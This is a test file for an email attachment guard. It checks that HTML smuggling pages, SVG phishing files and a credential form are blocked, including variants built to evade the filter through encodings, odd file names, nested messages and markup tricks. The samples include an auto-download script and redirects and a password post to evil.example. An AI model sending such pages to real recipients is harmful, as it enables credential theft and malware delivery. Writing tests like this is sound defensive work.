import { describe, expect, it } from 'vitest';
import { attachmentTests, attackerKit, MIXED, mail, withPart } from './attacker-kit.js';
import { useLocalStack } from './stack.js';

// HTML smuggling and SVG phishing: a page attached to a message assembles a download or collects a password
// once the reader opens it in a browser. The guard refuses such pages at its defaults, wherever they sit.

const stack = useLocalStack();
const kit = attackerKit(stack);

const SMUGGLER = (tag: string) =>
  `<html><body><p>Loading your document…</p><script>/*${tag}*/const b=new Blob([atob('TVqQAAMAAAAEAAAA')]);` +
  `const a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='invoice.exe';a.click();</script></body></html>`;
const b64 = (s: string | Buffer) => (Buffer.isBuffer(s) ? s : Buffer.from(s)).toString('base64');

/** name → [message, bytes that must never be delivered]. */
const PAGES: Record<string, [Buffer, string]> = {
  'an HTML smuggling page attached as invoice.html (base64)': [
    mail(
      [MIXED],
      withPart(
        `Content-Type: text/html; name="invoice.html"\r\nContent-Disposition: attachment; filename="invoice.html"\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64(SMUGGLER('html'))}`,
      ),
    ),
    b64(SMUGGLER('html')).slice(0, 40),
  ],
  'an unnamed SVG whose onload runs a script': [
    mail(
      [MIXED],
      withPart(
        `Content-Type: image/svg+xml\r\n\r\n<svg xmlns="http://www.w3.org/2000/svg" onload="location='https://evil.example/svg-onload'"><text>Voicemail</text></svg>`,
      ),
    ),
    'evil.example/svg-onload',
  ],
  'a credential form named Secure Message.htm, sent as octet-stream': [
    mail(
      [MIXED],
      withPart(
        `Content-Type: application/octet-stream; name="Secure Message.htm"\r\n\r\n<p>Sign in to read</p><form action="https://evil.example/collect-form" method=post><input type=password name=p></form>`,
      ),
    ),
    'evil.example/collect-form',
  ],
  'a download link to a data: file in an attached HTML page': [
    mail(
      [MIXED],
      withPart(
        `Content-Type: text/html\r\nContent-Disposition: attachment\r\n\r\n<a href="data:application/octet-stream;base64,TVqQAAMAAAAE" download="scan.exe">datalink-tag</a>`,
      ),
    ),
    'datalink-tag',
  ],
  'a UTF-16 HTML page (NUL bytes the scan cannot read)': [
    mail(
      [MIXED],
      withPart(
        `Content-Type: text/html; name="doc.html"\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64(Buffer.from('\ufeff<script>/*utf16-page*/</script>', 'utf16le'))}`,
      ),
    ),
    b64(Buffer.from('\ufeff<script>/*utf16-page*/</script>', 'utf16le')).slice(0, 40),
  ],
  'a page named invoice.html. (Windows drops the trailing dot)': [
    mail(
      [MIXED],
      withPart(
        `Content-Type: application/octet-stream; name="invoice.html."\r\n\r\n<body onload="go('trailing-dot')">`,
      ),
    ),
    "go('trailing-dot')",
  ],
  'an SVG whose script element has a namespace prefix': [
    mail(
      [MIXED],
      withPart(
        `Content-Type: image/svg+xml; name="fax.svg"\r\n\r\n<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script>/*svg-prefix*/</svg:script></svg:svg>`,
      ),
    ),
    '/*svg-prefix*/',
  ],
  'an MHT web archive (its page encoded inside)': [
    mail(
      [MIXED],
      withPart(
        `Content-Type: application/octet-stream; name="statement.mht"\r\n\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64('<script>/*mht*/</script>')}`,
      ),
    ),
    b64('<script>/*mht*/</script>'),
  ],
  'a page uuencoded in a plain-text body': [
    mail(
      [MIXED],
      withPart(
        `Content-Type: text/plain\r\n\r\nbegin 644 invoice.html\r\n${'M/'.padEnd(61, 'A')}\r\n\`\r\nend`,
      ),
    ),
    'begin 644 invoice.html',
  ],
  'an XHTML page named invoice.xml (application/xml)': [
    mail(
      [MIXED],
      withPart(
        `Content-Type: application/xml; name="invoice.xml"\r\n\r\n<html xmlns="http://www.w3.org/1999/xhtml"><script>/*xml-page*/</script></html>`,
      ),
    ),
    '/*xml-page*/',
  ],
  'a data XML whose XSLT stylesheet builds the page (unnamed, attached)': [
    mail(
      [MIXED],
      withPart(
        `Content-Type: text/xml\r\nContent-Disposition: attachment\r\n\r\n<?xml-stylesheet type="text/xsl" href="#xslt-page"?><doc/>`,
      ),
    ),
    '#xslt-page',
  ],
  'an SVG whose <set> animates an event handler onto a link': [
    mail(
      [MIXED],
      withPart(
        `Content-Type: image/svg+xml; name="voicemail.svg"\r\n\r\n<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="onmouseover" to="location='https://evil.example/svg-set'"/><text>Play</text></a></svg>`,
      ),
    ),
    'evil.example/svg-set',
  ],
  'a smuggling page in ISO-2022-JP, whose escape vanishes inside <script> once a browser decodes it': [
    mail(
      [MIXED],
      withPart(
        `Content-Type: text/html; name="invoice.html"\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64(Buffer.from(SMUGGLER('jis').replace('<script>', '<scr\x1b(Bipt>'), 'latin1'))}`,
      ),
    ),
    b64(Buffer.from(SMUGGLER('jis').replace('<script>', '<scr\x1b(Bipt>'), 'latin1')).slice(0, 40),
  ],
  'a smuggling page inside an attached message': [
    mail(
      [MIXED],
      withPart(
        `Content-Type: message/rfc822\r\n\r\nFrom: a@evil.example\r\nSubject: fw\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="i"\r\n\r\n--i\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n--i\r\nContent-Type: text/html; name="x.html"\r\n\r\n${SMUGGLER('nested')}\r\n--i--\r\n`,
      ),
    ),
    '/*nested*/',
  ],
};

const RECEIPT = mail(
  [MIXED],
  withPart(
    'Content-Type: text/html; name="receipt.html"\r\nContent-Disposition: attachment; filename="receipt.html"\r\n\r\n' +
      '<html><head><style>td{padding:4px}</style></head><body><table><tr><td>Coffee &amp; cake</td><td>&euro;4.50</td></tr></table>' +
      '<p><a href="https://shop.example/help?order=1&amp;lang=en">Help</a></p><img src="data:image/png;base64,iVBORw0KGgo="></body></html>',
  ),
);

describe('pages that run when opened (HTML smuggling, SVG phishing) through the guard at its defaults', () => {
  attachmentTests(kit, PAGES);

  it('delivers a static HTML receipt and an HTML body with a script (mail clients do not run it)', async () => {
    expect((await kit.inbound(RECEIPT)).verdict).toBe('DEFAULT');
    const body = mail(['Content-Type: text/html'], '<p>Hello</p><script>alert(1)</script>');
    expect((await kit.inbound(body)).verdict).toBe('DEFAULT');
  });

  it('delivers a genuine ISO-2022-JP page (its escapes are read as a browser decodes them)', async () => {
    const konnichiwa = '\x1b$B$3$s$K$A$O\x1b(B';
    const page = `<html><head><meta charset="iso-2022-jp"><title>${konnichiwa}</title></head><body><p>${konnichiwa}</p></body></html>`;
    const message = mail(
      [MIXED],
      withPart(
        `Content-Type: text/html; charset=iso-2022-jp; name="aisatsu.html"\r\nContent-Transfer-Encoding: 7bit\r\n\r\n${page}`,
      ),
    );
    expect((await kit.inbound(message)).verdict).toBe('DEFAULT');
  });

  it('delivers a data XML attachment, even one with <form> and <object> elements', async () => {
    const data = mail(
      [MIXED],
      withPart(
        'Content-Type: application/xml; name="order.xml"\r\n\r\n<?xml version="1.0"?><order xmlns="urn:example:order"><form>A1</form><object id="7"/></order>',
      ),
    );
    expect((await kit.inbound(data)).verdict).toBe('DEFAULT');
  });

  it('BLOCK_ACTIVE_MARKUP=false lets such pages through', async () => {
    const [page] = PAGES['an HTML smuggling page attached as invoice.html (base64)'] as [Buffer, string];
    expect((await kit.inbound(page, { BLOCK_ACTIVE_MARKUP: 'false' })).verdict).toBe('DEFAULT');
  });
});
